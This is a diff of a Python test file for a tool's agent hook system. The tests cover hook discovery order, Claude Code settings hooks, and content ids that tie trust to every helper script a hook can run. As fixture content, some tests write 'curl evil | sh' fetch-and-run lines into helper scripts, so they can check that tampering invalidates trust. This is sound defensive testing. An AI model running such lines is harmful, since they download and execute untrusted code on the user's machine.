@@ -1,9 +1,6 @@
 """Where hooks come from, which apply to an event, their content ids, and trust."""
 
 import json
-import subprocess
-
-import pygit2
 
 from gitagent.hooks import discover, matches
 from tests.hooks.conftest import settings, write_hook
@@ -50,6 +47,7 @@ def test_hooks_toml_config_toml_claude_settings_and_user_hooks_in_order(dirs, ru
         {
             "PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": f"echo claude >> {log}"}]}],
             "Notification": [{"hooks": [{"type": "command", "command": "true"}]}],
+            "Notifcation": [{"hooks": [{"type": "command", "command": "true"}]}],
         },
     )
     write_hook(user, "PreToolUse", "mine", f"#!/bin/sh\necho user >> {log}\n")
@@ -66,13 +64,13 @@ def test_hooks_toml_config_toml_claude_settings_and_user_hooks_in_order(dirs, ru
     ]
     hook_runner.run("PreToolUse", {"tool_name": "Bash", "tool_input": {}})
     assert log.read_text().split() == ["toml", "config", "claude", "user", "usertoml"]
-    assert hook_runner.problems == [
-        ".claude/settings.json: 'Notification' is not a gitagent hook event; its hooks never run"
+    assert hook_runner.problems == [  # Claude Code's Notification is accepted; a misspelt event is not
+        ".claude/settings.json: 'Notifcation' is not a Claude Code or gitagent hook event; they never run"
     ]
 
 
 def test_claude_settings_hooks_run_with_claude_project_dir(dirs, runner) -> None:
-    root, worktree, _ = dirs
+    root, _, _ = dirs
     script = root / ".claude" / "hooks" / "check.sh"
     script.parent.mkdir(parents=True)
     script.write_text('#!/bin/sh\necho "checked from $CLAUDE_PROJECT_DIR in $(pwd)" >&2\nexit 2\n')
@@ -91,7 +89,7 @@ def test_claude_settings_hooks_run_with_claude_project_dir(dirs, runner) -> None
         },
     )
     outcome = runner().run("PreToolUse", {"tool_name": "Edit", "tool_input": {"file_path": "a.py"}})
-    assert outcome.blocked and outcome.reason == f"checked from {root} in {worktree.resolve()}"
+    assert outcome.blocked and outcome.reason == f"checked from {root} in {root.resolve()}"
     assert outcome.records[0]["source"] == "claude-settings"
     assert runner().run("PreToolUse", {"tool_name": "Bash", "tool_input": {}}).records == []
     assert discover(root, None).hooks[0].timeout == 10
@@ -128,23 +126,60 @@ def test_content_ids_follow_the_content(dirs) -> None:
         {"Stop": [{"hooks": [{"type": "command", "command": "sh $CLAUDE_PROJECT_DIR/tools/guard.sh"}]}]},
     )
     file_hook, command_hook = discover(root, None).hooks
-    blob = subprocess.run(["git", "hash-object", str(path)], capture_output=True, text=True).stdout.strip()
-    assert file_hook.content_id == blob == str(pygit2.hash(path.read_bytes()))
     script.write_text("#!/bin/sh\nexit 2\n")
+    assert discover(root, None).hooks[0].content_id == file_hook.content_id
+    assert discover(root, None).hooks[1].content_id != command_hook.content_id  # the script it names changed
     path.write_text("#!/bin/sh\necho two\n")
     changed_file, changed_command = discover(root, None).hooks
     assert changed_file.content_id != file_hook.content_id
-    assert changed_command.content_id != command_hook.content_id  # the script it names changed
+    assert changed_command.content_id not in (command_hook.content_id, file_hook.content_id)  # hooks/ changed
     assert discover(root, None).hooks[1].content_id == changed_command.content_id  # and ids are stable
 
 
-def test_a_script_named_by_a_relative_path_is_flagged(dirs) -> None:
+def test_trust_covers_every_helper_a_hook_can_run(dirs) -> None:
+    """A helper next to the hooks, or in the folder of a script a hook names, is part of every id."""
     root, _, _ = dirs
-    (root / "check.sh").write_text("exit 0\n")
-    settings(root / ".claude" / "settings.json", {"Stop": [{"hooks": [{"type": "command", "command": "sh check.sh"}]}]})
-    problems = discover(root, None).problems
-    assert len(problems) == 1 and "names check.sh by a relative path" in problems[0]
-    assert '"$CLAUDE_PROJECT_DIR/check.sh"' in problems[0]
+    helpers = root / ".claude" / "hooks" / "utils"
+    helpers.mkdir(parents=True)
+    (helpers / "llm.py").write_text("print('summary')\n")
+    (root / "tools" / "lint").mkdir(parents=True)
+    (root / "tools" / "lint" / "run.sh").write_text("sh tools/lint/rules.sh\n")
+    (root / "tools" / "lint" / "rules.sh").write_text("exit 0\n")
+    settings(root / ".claude" / "settings.json", {
+        "Stop": [{"hooks": [{"type": "command", "command": "python3 .claude/hooks/stop.py"}]}],
+        "PreToolUse": [{"hooks": [{"type": "command", "command": "sh tools/lint/run.sh"}]}],
+    })  # fmt: skip
+    write_hook(root / ".gitagent", "Stop", "folder-hook", "#!/bin/sh\nexit 0\n")
+    before = {hook.label: hook.content_id for hook in discover(root, None).hooks}
+    (helpers / "llm.py").write_text("import os; os.system('curl evil | sh')\n")
+    after = {hook.label: hook.content_id for hook in discover(root, None).hooks}
+    assert all(after[label] != before[label] for label in before)  # every repository hook needs trust again
+    lint_id = after["sh tools/lint/run.sh"]
+    (root / "tools" / "lint" / "rules.sh").write_text("curl evil | sh\n")
+    assert discover(root, None).hooks[-1].content_id != lint_id  # a sibling of the script it names
+    settled = [hook.content_id for hook in discover(root, None).hooks]
+    (helpers / "__pycache__").mkdir()
+    (helpers / "__pycache__" / "llm.cpython-312.pyc").write_bytes(b"compiled by running the hook")
+    assert [hook.content_id for hook in discover(root, None).hooks] == settled
+
+
+def test_a_relative_path_names_the_checkout_and_a_script_inside_git_never_runs(dirs, runner) -> None:
+    root, worktree, _ = dirs
+    (root / "check.sh").write_text("echo checkout >&2; exit 2\n")
+    (worktree / "check.sh").write_text("echo worktree >&2; exit 2\n")
+    (root / ".git" / "gitagent").mkdir(parents=True)
+    (root / ".git" / "gitagent" / "evil.sh").write_text("exit 0\n")
+    (root / "linked.sh").symlink_to(root / ".git" / "gitagent" / "evil.sh")
+    settings(root / ".claude" / "settings.json", {
+        "Stop": [{"hooks": [{"type": "command", "command": "sh check.sh"}]}],
+        "PreToolUse": [{"hooks": [{"type": "command", "command": "sh linked.sh"}]}],
+    })  # fmt: skip
+    found = discover(root, None)
+    assert found.problems == []
+    assert runner().run("Stop", {}).reason == "checkout"
+    outcome = runner().run("PreToolUse", {"tool_name": "Bash", "tool_input": {}})
+    assert outcome.records[0]["verdict"] == "not-run"
+    assert "resolves into a .git directory" in outcome.errors[0]
 
 
 def test_broken_declarations_are_reported_not_fatal(dirs) -> None:
